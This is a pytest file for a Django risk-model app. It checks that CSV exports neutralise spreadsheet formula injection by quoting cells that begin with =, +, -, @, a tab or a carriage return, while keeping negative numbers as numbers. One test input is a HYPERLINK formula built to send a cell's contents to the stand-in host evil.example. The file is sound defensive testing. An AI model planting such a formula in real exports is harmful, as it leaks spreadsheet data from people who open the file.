"""CSV exports are safe to open in a spreadsheet (riskmodels.csv_cells)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from riskmodels.csv_cells import safe_cell
from riskmodels.services import compute_exposure
from tests.conftest import login
from tests.factories import worked_check

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-1.5", "-1.5"),  # a negative amount stays a number
        ("-2E+3", "-2E+3"),
        ("Binance", "Binance"),
        (None, None),
    ],
)
def test_formula_cells_are_neutralised_and_numbers_kept(cell, written):
    assert safe_cell(cell) == written


def test_a_location_named_as_a_formula_is_text_in_the_investors_holdings_csv(tenants):
    locations = worked_check(tenants.fund_a)
    locations["cold"].name = EVIL
    locations["cold"].save()
    compute_exposure(portfolio_id=tenants.fund_a.pk)
    response = login(tenants.bob).get(reverse("riskmodels:export_holdings_csv", args=["fund-a"]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL in cells  # shown, as text
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-")[:1].isdigit()]
